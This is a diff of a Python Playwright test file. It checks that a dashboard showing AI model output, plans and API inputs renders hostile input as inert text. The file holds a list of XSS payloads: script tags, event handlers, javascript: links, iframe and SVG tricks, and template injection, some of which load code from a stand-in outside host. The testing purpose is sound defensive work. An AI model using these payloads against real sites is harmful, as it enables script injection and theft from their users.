@@ -1,9 +1,15 @@
-"""Nothing that a model or a caller writes is run."""
+"""Nothing that a model, a caller or the server's errors say is run, opened, or asks anything of anybody else.
+
+A page that runs something hurts (``window.hurt``); a refusal by the policy, and any request to another
+origin, are complaints of the visit's (tests/support/browser.py).
+"""
 
 from __future__ import annotations
 
+import json
+
 import pytest
-from playwright.sync_api import expect
+from playwright.sync_api import Page, Route, expect
 
 from tests.dashboard.browser.conftest import Visiting
 from tests.support.flows import BAD_DIFF, FILES, GOOD_DIFF, Flows, finding, loop, plan_text, says, verdict
@@ -13,45 +19,130 @@ from tests.support.server import Server
 pytestmark = pytest.mark.e2e
 
 PAGES = {"/": "Overview", "/flows": "Flows", "/logs": "Logs", "/keys": "Keys", "/settings": "Settings"}
-HOSTILE = "<script>window.hurt=1</script><img src=x onerror='window.hurt=1'>"
+TABS = ("changes", "steps", "plan", "events", "details")
+HURT = "window.hurt=1"
+AWAY = "http://elsewhere.invalid"
+HOSTILE = [
+    f"<script>{HURT}</script>",
+    f"<ScRiPt>{HURT}</sCrIpT>",
+    f"<script src={AWAY}/x.js></script>",
+    f"</script><script>{HURT}</script>",
+    f"</title><script>{HURT}</script>",
+    f"</textarea><img src=x onerror={HURT}>",
+    f"<img src=x onerror='{HURT}'>",
+    f"<img src={AWAY}/pixel.png>",
+    f"<img srcset='{AWAY}/pixel.png 2x'>",
+    f"<svg onload={HURT}>",
+    f"<svg><animate onbegin={HURT} attributeName=x dur=1s>",
+    f"<svg><script href={AWAY}/x.js />",
+    f"<iframe srcdoc='<script>parent.{HURT}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{HURT}></iframe>",
+    f"<object data={AWAY}/x.swf></object>",
+    f"<embed src={AWAY}/x>",
+    f"<link rel=stylesheet href={AWAY}/x.css>",
+    f"<style>@import url({AWAY}/x.css);body{{display:none}}</style>",
+    f"<base href={AWAY}/>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<form action={AWAY}><button autofocus onfocus={HURT}>Go</button></form>",
+    f"<details open ontoggle={HURT}>",
+    f"<video poster={AWAY}/x.png><source onerror={HURT}></video>",
+    f"<math><mtext><style><img src=x onerror={HURT}></style></mtext></math>",
+    f"<p style='background:url({AWAY}/x.png)'>styled</p>",
+    f"![picture]({AWAY}/pixel.png)",
+    f"[link](javascript:{HURT})",
+    f"[link](data:text/html,<script>{HURT}</script>)",
+    f"<javascript:{HURT}>",
+    f"[reference]: javascript:{HURT}\n\n[reference]",
+    f"${{{HURT}}} {{{{constructor.constructor('{HURT}')()}}}}",
+    "\u202egnp.exe \u0007 \ufeff \u2028",
+    "__proto__ constructor toString",
+]
+ALL = "\n\n".join(HOSTILE)
+NAME = "<img src=x onerror=window.hurt=1>.py"
+SHORT = HOSTILE[0] + HOSTILE[6]
 
 
-def test_nothing_that_a_model_or_a_caller_writes_is_run(
-    visiting: Visiting, flows: Flows, provider: Provider, dashboard: Server
+def unhurt(page: Page) -> None:
+    expect(page.get_by_role("status", name="Loading")).to_have_count(0)
+    assert not page.evaluate("window.hurt")
+    strange = (
+        "iframe, object, embed, base, form[action], [onerror], [onload], main img, main style, main link"
+    )
+    assert page.locator(strange).count() == 0
+    hrefs = page.eval_on_selector_all("main a[href]", "all => all.map(one => one.protocol)")
+    assert set(hrefs) <= {"http:", "https:"}
+
+
+def test_what_models_and_callers_write_is_text_on_every_page(
+    visiting: Visiting, provider: Provider, dashboard: Server
 ) -> None:
-    name = "<img src=x onerror=window.hurt=1>.py"
-    diff = GOOD_DIFF.replace('f"Hello {name}!"', f'"{HOSTILE}"')
-    plan = plan_text("greet.py", head=f"# {HOSTILE}\n\n[link](javascript:window.hurt=1) {HOSTILE}")
+    key = dashboard.create_key(SHORT)["key"]
+    flows = Flows(dashboard.client_of(key))
+    lines = "".join(f"+# {line}\n" for text in HOSTILE[:-2] for line in text.split("\n"))
+    added = lines.count("\n")
+    diff = GOOD_DIFF.replace("+1,2 @@", f"+1,{2 + added} @@") + lines
+    notes = [finding(text) | {"severity": "minor"} for text in HOSTILE[:20]]
     provider.script(
         *loop(
-            [says(BAD_DIFF.replace("Goodbye", HOSTILE)), says(diff), says(diff)],
-            [verdict("revise", finding(HOSTILE, file=name)), verdict("approve", finding(HOSTILE))],
-            plan=[says(plan)],
+            [says(BAD_DIFF.replace("Goodbye", SHORT)), says(diff), says(diff)],
+            [verdict("revise", finding(ALL, file=NAME)), verdict("approve", *notes)],
+            plan=[says(plan_text("greet.py", head=f"# {SHORT}\n\n{ALL}", risks=HOSTILE[:30]))],
         )
     )
-    flow_id = flows.run(f"{HOSTILE} task", FILES | {name: "x = 1\n"}, metadata={"<b>": HOSTILE})["id"]
+    metadata = {text: text for text in HOSTILE[:8]}
+    flow_id = flows.start(f"{SHORT} task\n{ALL}", FILES | {NAME: "x = 1\n"}, metadata=metadata)
+    flow = flows.finish_with_a_person(flow_id)
+    assert flow["status"] == "approved", flow["message"]
     provider.reply(says("Hi"))
-    answer = dashboard.client.post(
-        "/v1/chat/completions",
-        json={"model": "cfx-plan", "messages": [{"role": "user", "content": "Hi"}]},
-        headers={"x-cfx-session-id": HOSTILE},
-    )
-    assert answer.status_code == 200
-    dashboard.client.post("/v1/keys", json={"label": HOSTILE})
-    visit = visiting()
-    for tab in ("changes", "steps", "plan", "events", "details"):
-        visit.go(f"/flow?id={flow_id}&tab={tab}&step=3")
-        expect(visit.page.get_by_role("heading", level=1)).to_contain_text("<script>")
-        visit.page.get_by_role("tabpanel").wait_for()
-        assert not visit.page.evaluate("window.hurt")
+    for text in HOSTILE[:3]:
+        body = {"model": "cfx-plan", "messages": [{"role": "user", "content": text}]}
+        answer = flows.client.post("/v1/chat/completions", json=body, headers={"x-cfx-session-id": text})
+        assert answer.status_code == 200
+    for text in HOSTILE[:12]:
+        answer = flows.client.post("/v1/keys", json={"label": text})
+        assert answer.status_code == 201, answer.text
+    visit = visiting(key=key)
+    page = visit.page
+    for tab in TABS:
+        visit.go(f"/flow?id={flow_id}&tab={tab}")
+        expect(page.get_by_role("heading", level=1)).to_contain_text("<script>")
+        expect(page.get_by_role("tabpanel")).to_contain_text(HURT if tab != "events" else "flow.completed")
+        unhurt(page)
+    visit.go(f"/flow?id={flow_id}&tab=steps")
+    steps = page.get_by_role("list", name="Steps").get_by_role("button")
+    for index in range(steps.count()):
+        steps.nth(index).click()
+        unhurt(page)
     for address, heading in PAGES.items():
         visit.go(address, heading)
-        expect(visit.page.get_by_text("Loading")).to_have_count(0)
-        assert not visit.page.evaluate("window.hurt")
-    visit.go(f"/logs?session={HOSTILE}&model={HOSTILE}&row={HOSTILE}", "Logs")
+        unhurt(page)
+    visit.go("/", "Overview")
+    expect(page.get_by_text(f"Signed in as {SHORT}")).to_be_visible()
     visit.go("/keys", "Keys")
-    expect(visit.page.get_by_text("<script>").first).to_be_visible()
-    assert not visit.page.evaluate("window.hurt")
+    expect(page.get_by_role("row").filter(has_text=HOSTILE[1]).first).to_be_visible()
+    page.get_by_role("row").filter(has_text=HOSTILE[1]).get_by_role("button", name="Revoke").first.click()
+    unhurt(page)
+    for text in HOSTILE[:3]:
+        visit.go(f"/logs?session={text}&model={text}&row={text}&q={text}", "Logs")
+        unhurt(page)
+
+
+def test_words_of_an_error_are_text(visiting: Visiting) -> None:
+    """Whatever stands between the page and the API."""
+    visit = visiting()
+    page = visit.page
+
+    def refuse(route: Route) -> None:
+        error = {"message": ALL, "type": SHORT, "param": SHORT, "code": SHORT}
+        headers = {"x-cfx-request-id": SHORT}
+        body = json.dumps({"error": error})
+        route.fulfill(status=400, body=body, headers=headers, content_type="application/json")
+
+    page.route("**/v1/**", refuse)
+    for address in (*PAGES, "/flow?id=1"):
+        visit.go(address)
+        expect(page.get_by_role("alert").filter(has_text=HOSTILE[0]).first).to_be_visible()
+        unhurt(page)
 
 
 def test_characters_that_hide_or_turn_others_around_are_written_out(
